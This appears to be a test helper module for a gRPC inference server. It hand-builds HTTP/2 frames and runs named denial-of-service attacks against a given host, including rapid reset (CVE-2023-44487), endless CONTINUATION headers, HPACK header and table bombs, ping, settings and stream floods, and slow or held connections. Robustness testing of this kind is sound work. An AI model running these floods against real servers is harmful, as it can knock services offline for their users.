"""HTTP/2 as no client should speak it, over plain sockets: `python -m tests.server.abuse NAME`."""

import json
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress

from jaxinfer.v1 import inference_pb2 as pb

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATH = b"/jaxinfer.v1.InferenceService/GenerateStream"
DATA, HEADERS, PRIORITY, RST, SETTINGS = 0, 1, 2, 3, 4
PING, GOAWAY, WINDOW, CONTINUATION = 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
MAX_STREAM = 2**31 - 1
CANCEL = (8).to_bytes(4, "big")
NUM_CONNECTIONS = 200  # of abuses that hold connections
NUM_STREAMS = 5000  # of abuses that hold streams
CONNECT_S = 5.0
HEARD_BYTES = 1 << 16


def frame(kind: int, flags: int, stream: int, data: bytes = b"") -> bytes:
    """One frame of HTTP/2."""
    return len(data).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + data


def literal(name: bytes, value: bytes, *, kept: bool = False) -> bytes:
    """One header of HPACK, without Huffman; `kept` puts it into the dynamic table."""
    return bytes([64 * kept]) + _length(len(name)) + name + _length(len(value)) + value


def ask(path: bytes = PATH) -> bytes:
    """The headers of a call."""
    names = {b":method": b"POST", b":scheme": b"http", b":path": path, b":authority": b"x"}
    names |= {b"content-type": b"application/grpc", b"te": b"trailers"}
    return b"".join(literal(name, value) for name, value in names.items())


def message(max_tokens: int = 500) -> bytes:
    """A good request of 'a', framed as gRPC does."""
    data = pb.GenerateStreamRequest(text="a", stopping={"max_tokens": max_tokens})
    body = data.SerializeToString()
    return b"\0" + len(body).to_bytes(4, "big") + body


def call(stream: int) -> bytes:
    """A whole good call."""
    return frame(HEADERS, END_HEADERS, stream, ask()) + frame(DATA, END_STREAM, stream, message())


class Wire:
    """A connection that has said its preface; reads and forgets what comes, or never reads."""

    def __init__(self, target: str, *, reads: bool = True, opening: bytes | None = None) -> None:
        host, _, port = target.rpartition(":")
        self.heard = bytearray()
        """What came, from the beginning, as far as it was read."""
        self._reads = reads
        self._socket = socket.create_connection((host, int(port)), timeout=CONNECT_S)
        self._socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if opening is None:
            opening = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)
        self._socket.sendall(opening)
        self._socket.setblocking(False)

    def send(self, data: bytes, end_s: float) -> bool:
        """All of it, unless the time is over or the server has closed; says which."""
        rest = memoryview(data)
        while rest and time.monotonic() < end_s:
            reading = [self._socket] if self._reads else []
            readable, writable, _ = select.select(reading, [self._socket], [], 0.02)
            try:
                if readable and not self._read():
                    return False
                if writable:
                    rest = rest[self._socket.send(rest) :]
            except OSError:
                return False
        return not rest

    def is_closed(self) -> bool:
        """Whether the server has closed it; reads what has come."""
        try:
            while self._read():
                continue
        except BlockingIOError:
            return False
        except OSError:
            return True
        return True

    def frames(self) -> list[tuple[int, bytes]]:
        """Kind and content of each frame that came whole."""
        found, at = [], 0
        while at + 9 <= len(self.heard):
            end = at + 9 + int.from_bytes(self.heard[at : at + 3], "big")
            if end <= len(self.heard):
                found.append((self.heard[at + 3], bytes(self.heard[at + 9 : end])))
            at = end
        return found

    def close(self, *, hard: bool = False) -> None:
        """Ends it, hard without a goodbye."""
        if hard:
            linger = struct.pack("ii", 1, 0)
            self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
        self._socket.close()

    def _read(self) -> bool:
        data = self._socket.recv(1 << 16)
        if len(self.heard) < HEARD_BYTES:
            self.heard += data
        return bool(data)


def again(
    pieces: Callable[[], Iterator[bytes]], *, reads: bool = True
) -> Callable[[str, float], int]:
    """An abuse that sends pieces as fast as it can, on a new connection whenever it is thrown out.

    It returns how many pieces went out.
    """

    def run(target: str, end_s: float) -> int:
        sent = 0
        while time.monotonic() < end_s:
            with suppress(OSError):
                wire = Wire(target, reads=reads)
                for piece in pieces():
                    if not wire.send(piece, end_s):
                        break
                    sent += 1
                wire.close(hard=True)
        return sent

    return run


def rapid_reset() -> Iterator[bytes]:
    """Calls that are taken back in the same packet, twenty in each."""
    for first in range(1, MAX_STREAM, 40):
        streams = range(first, first + 40, 2)
        yield b"".join(call(stream) + frame(RST, 0, stream, CANCEL) for stream in streams)


def header_resets() -> Iterator[bytes]:
    """Only headers, and taken back: what CVE-2023-44487 is."""
    block = ask()
    for first in range(1, MAX_STREAM, 100):
        streams = range(first, first + 100, 2)
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, block) + frame(RST, 0, stream, CANCEL)
            for stream in streams
        )


def pings() -> Iterator[bytes]:
    while True:
        yield frame(PING, 0, 0, bytes(8)) * 100


def settings() -> Iterator[bytes]:
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 100


def header_bombs() -> Iterator[bytes]:
    """A megabyte of headers for each call, in frames that are allowed."""
    bomb = [literal(f"x-{number}".encode(), b"b" * 8000) for number in range(128)]
    for stream in range(1, MAX_STREAM, 2):
        yield frame(HEADERS, END_STREAM, stream, ask())
        yield b"".join(frame(CONTINUATION, 0, stream, one) for one in bomb)
        yield frame(CONTINUATION, END_HEADERS, stream)


def table_bombs() -> Iterator[bytes]:
    """Headers that take a byte each and stand for 3,000: 45 MB in one frame."""
    kept = literal(b"x", b"b" * 3000, kept=True)
    for stream in range(1, MAX_STREAM, 2):
        block = ask() + kept + b"\xbe" * 15000
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block)


def continuations() -> Iterator[bytes]:
    """Headers that never end (CVE-2024-24549 and its kind)."""
    yield frame(HEADERS, 0, 1, ask())
    while True:
        yield frame(CONTINUATION, 0, 1, literal(b"x", b"b" * 100)) * 50


def empty_continuations() -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, ask())
    while True:
        yield frame(CONTINUATION, 0, 1) * 100


def empty_data() -> Iterator[bytes]:
    """Frames of nothing in a call that is never whole."""
    yield frame(HEADERS, END_HEADERS, 1, ask())
    while True:
        yield frame(DATA, 0, 1) * 100


def empty_windows() -> Iterator[bytes]:
    """Windows that grow by 0, which is an error, on a call that runs."""
    yield call(1)
    yield frame(WINDOW, 0, 1, bytes(4)) + frame(WINDOW, 0, 0, bytes(4))


def huge_windows() -> Iterator[bytes]:
    """Windows beyond the largest one that there is."""
    yield call(1)
    largest = MAX_STREAM.to_bytes(4, "big")
    yield frame(WINDOW, 0, 1, largest) * 2 + frame(WINDOW, 0, 0, largest) * 2


def priorities() -> Iterator[bytes]:
    while True:
        yield b"".join(
            frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 16)) for stream in range(1, 201, 2)
        )


def streams() -> Iterator[bytes]:
    """Calls without a body, as many as fit and far more."""
    block = ask()
    for first in range(1, 2 * NUM_STREAMS, 100):
        numbers = range(first, first + 100, 2)
        yield b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in numbers)


def garbage() -> Iterator[bytes]:
    yield b"\xff" * 9 + b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"


def churn() -> Iterator[bytes]:
    """Connections that come, say hello and are gone."""
    yield frame(PING, 0, 0, bytes(8))


def closed_windows(target: str, end_s: float) -> int:
    """Good calls whose answers may not be sent."""
    shut = struct.pack(">HI", 4, 0)
    opening = PREFACE + frame(SETTINGS, 0, 0, shut) + frame(SETTINGS, ACK, 0)
    wire = Wire(target, opening=opening)
    wire.send(b"".join(call(stream) for stream in range(1, 101, 2)), end_s)
    while time.monotonic() < end_s and not wire.is_closed():
        time.sleep(0.02)
    wire.close(hard=True)
    return 50


def held(opening: bytes | None, drip: bytes = b"") -> Callable[[str, float], int]:
    """An abuse that holds connections, and adds a byte of `drip` to each now and then.

    It returns how many connections the server has closed or refused.
    """

    def run(target: str, end_s: float) -> int:
        num_closed = 0
        with ExitStack() as stack:
            wires = []
            for _ in range(NUM_CONNECTIONS):
                try:
                    wires.append(Wire(target, opening=opening))
                except OSError:
                    num_closed += 1
                    continue
                stack.callback(wires[-1].close)
            place = 0
            while time.monotonic() < end_s:
                byte = drip[place : place + 1]
                alive = [wire for wire in wires if not wire.is_closed() and wire.send(byte, end_s)]
                wires, place = alive, place + 1
                time.sleep(min(0.1, max(0.0, end_s - time.monotonic())))
            return NUM_CONNECTIONS - len(wires)

    return run


def _length(count: int) -> bytes:
    """An integer of HPACK with a prefix of 7 bits."""
    if count < 127:
        return bytes([count])
    found, count = [127], count - 127
    while count >= 128:
        found.append(count % 128 + 128)
        count //= 128
    return bytes([*found, count])


ABUSES: dict[str, Callable[[str, float], int]] = {
    "rapid reset": again(rapid_reset),
    "header resets": again(header_resets),
    "ping flood": again(pings),
    "ping flood, unread": again(pings, reads=False),
    "settings flood": again(settings),
    "settings flood, unread": again(settings, reads=False),
    "header bombs": again(header_bombs),
    "table bombs": again(table_bombs),
    "endless headers": again(continuations),
    "empty continuations": again(empty_continuations),
    "empty data": again(empty_data),
    "empty windows": again(empty_windows),
    "huge windows": again(huge_windows),
    "priority flood": again(priorities),
    "stream flood": again(streams),
    "garbage": again(garbage),
    "connection churn": again(churn),
    "closed windows": closed_windows,
    "half-open": held(b""),
    "idle": held(None),
    "slow bytes": held(PREFACE[:3], PREFACE[3:] + frame(SETTINGS, 0, 0) + call(1)),
}


def run(name: str, target: str, seconds: float) -> int:
    """One abuse for so long; returns what it counts."""
    return ABUSES[name](target, time.monotonic() + seconds)


if __name__ == "__main__":
    print(json.dumps({"count": run(sys.argv[1], sys.argv[2], float(sys.argv[3]))}))
